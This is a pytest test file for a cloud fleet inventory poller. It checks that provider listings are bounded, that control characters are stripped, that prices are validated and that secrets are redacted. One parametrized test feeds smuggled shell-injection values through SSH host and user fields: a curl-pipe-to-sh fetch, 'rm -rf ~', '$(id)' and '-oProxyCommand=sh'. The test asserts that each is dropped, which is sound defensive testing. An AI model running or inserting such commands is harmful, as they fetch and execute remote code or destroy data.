"""What a provider sends is hostile: it may be endless, contradictory, oversized or full of control characters."""

from __future__ import annotations

from decimal import Decimal
from itertools import count

import pytest

from fleet.inventory import listing as listings
from fleet.inventory.models import Instance
from fleet.inventory.poll import poll_account
from fleet.providers.base import Money, Ssh
from fleet.providers.errors import AuthFailed, Unavailable
from tests.fleet.inventory.conftest import NOON, SECRET


@pytest.fixture
def poll(lab, provider):
    def run(*machines):
        provider.machines = list(machines)
        lab.refresh_from_db()
        return poll_account(account=lab, now=NOON)

    return run


def test_one_machine_twice_fails_the_whole_listing(poll, listed):
    outcome = poll(listed("i-1"), listed("i-2"), listed("i-1"))
    assert isinstance(outcome.error, Unavailable)
    assert not Instance.objects.exists()


def test_two_ids_that_are_one_when_cut_fail_it_too(poll, listed):
    outcome = poll(listed("i" * 200 + "1"), listed("i" * 200 + "2"))
    assert isinstance(outcome.error, Unavailable)


def test_a_machine_without_an_id_fails_it(poll, listed):
    assert isinstance(poll(listed("\x00")).error, Unavailable)


def test_what_the_database_refuses_fails_the_poll_whole_and_says_so(poll, listed, lab, monkeypatch):
    monkeypatch.setattr("fleet.inventory.listing.MAX_INTEGER", 10**12)
    outcome = poll(listed("i-1"), listed("i-2", vcpus=10**11))
    assert outcome.error is not None
    assert not Instance.objects.exists()
    lab.refresh_from_db()
    assert (lab.failures, lab.error_kind) == (1, "unavailable")


def test_a_listing_cut_off_midway_fails_whole(poll, listed, provider):
    provider.error = Unavailable("connection reset on page 2")
    poll(listed("i-1"))
    assert not Instance.objects.exists()


def test_an_endless_listing_is_given_up(poll, listed, provider, lab, monkeypatch):
    monkeypatch.setattr(listings, "MAX_MACHINES", 50)
    provider.machines = (listed(f"i-{number}") for number in count())
    assert isinstance(poll_account(account=lab, now=NOON).error, Unavailable)


def test_a_listing_that_takes_too_long_is_given_up(poll, listed, monkeypatch):
    moments = count(step=1000)
    monkeypatch.setattr("fleet.inventory.listing.time.monotonic", lambda: next(moments))
    outcome = poll(listed("i-1"))
    assert outcome.error is not None
    assert "longer" in outcome.error.detail


def test_long_texts_are_cut_and_control_characters_become_spaces(poll, listed):
    poll(listed("i-1", name="a\x00b\x1b[31m\n" + "x" * 10_000, raw_state="y" * 10_000))
    machine = Instance.objects.get()
    assert machine.name.startswith("a b [31m x")
    assert (len(machine.name), len(machine.raw_state)) == (200, 80)


def test_numbers_that_no_machine_has_become_unknown(poll, listed):
    poll(listed("i-1", gpu_count=-1, vcpus=10**12, ram_mib=1024, host_share=Decimal(7)))
    machine = Instance.objects.get()
    assert (machine.gpu_count, machine.vcpus, machine.ram_mib, machine.host_share) == (None, None, 1024, None)


@pytest.mark.parametrize("amount", ["-1", "NaN", "Infinity", "1e12"])
def test_what_is_no_price_is_an_unknown_price_and_not_a_free_machine(poll, listed, amount):
    poll(listed("i-1", rate=amount))
    assert Instance.objects.get().price_per_hour is None


def test_two_currencies_on_one_machine_leave_the_second_unknown(poll, listed):
    poll(listed("i-1", rate="2", storage_rate=Money(Decimal(1), "CNY")))
    machine = Instance.objects.get()
    assert (machine.price_per_hour, machine.storage_price_per_hour, machine.currency) == (Decimal(2), None, "USD")


def test_nested_extras_are_bounded(poll, listed):
    given = [{"a": "b"}, {"a": ["x" * 100] * 100}, {"a": float("nan")}, {"a": ["\ud800"]}, {"a": ["\x00"]}]
    poll(*(listed(f"i-{number}", extra=extra) for number, extra in enumerate(given)))
    extras = Instance.objects.order_by("external_id").values_list("extra", flat=True)
    assert list(extras) == [{"a": "b"}, {}, {}, {}, {}]


def test_addresses_and_labels_are_bounded(poll, listed):
    many = {f"key {number}": "v\x00" * 400 for number in range(200)}
    poll(listed("i-1", labels=many, ssh=tuple(Ssh("203.0.113.4", port) for port in range(70_000, 70_020))))
    machine = Instance.objects.get()
    assert len(machine.provider_labels) == listings.MAX_LABELS
    assert [entry["port"] for entry in machine.ssh] == [22] * listings.MAX_SSH


@pytest.mark.parametrize(
    ("host", "user"),
    [
        ("x; curl http://198.51.100.9 | sh", "root"),
        ("203.0.113.4\nrm -rf ~", "root"),
        ("$(id)", "root"),
        ("-oProxyCommand=sh", "root"),
        ("fe80::1%;sh", "root"),
        ("h" * 254, "root"),
        ("", "root"),
        ("203.0.113.4", "-oProxyCommand=sh"),
        ("203.0.113.4", "root;sh #"),
    ],
)
def test_an_address_that_a_shell_would_read_otherwise_is_dropped(poll, listed, host, user):
    good = [Ssh("203.0.113.4", 22, "ubuntu"), Ssh("2001:db8::7", 22, "ubuntu"), Ssh("gpu-1.example.com", 22, "")]
    poll(listed("i-1", ssh=(Ssh(host, 22, user), *good)))
    assert [entry["host"] for entry in Instance.objects.get().ssh] == [ssh.host for ssh in good]


def test_an_error_that_echoes_the_key_is_kept_without_it(poll, provider, lab):
    provider.error = AuthFailed(f"key {SECRET} is revoked")
    poll()
    lab.refresh_from_db()
    assert lab.error_detail == "key ••• is revoked"


def test_an_adapter_that_breaks_its_promise_is_a_failed_poll(poll, provider, lab, caplog):
    provider.error = KeyError("instances")
    poll()
    lab.refresh_from_db()
    assert (lab.error_kind, lab.error_detail) == ("unavailable", "The adapter failed: KeyError.")
    assert "scripted adapter failed" in caplog.text
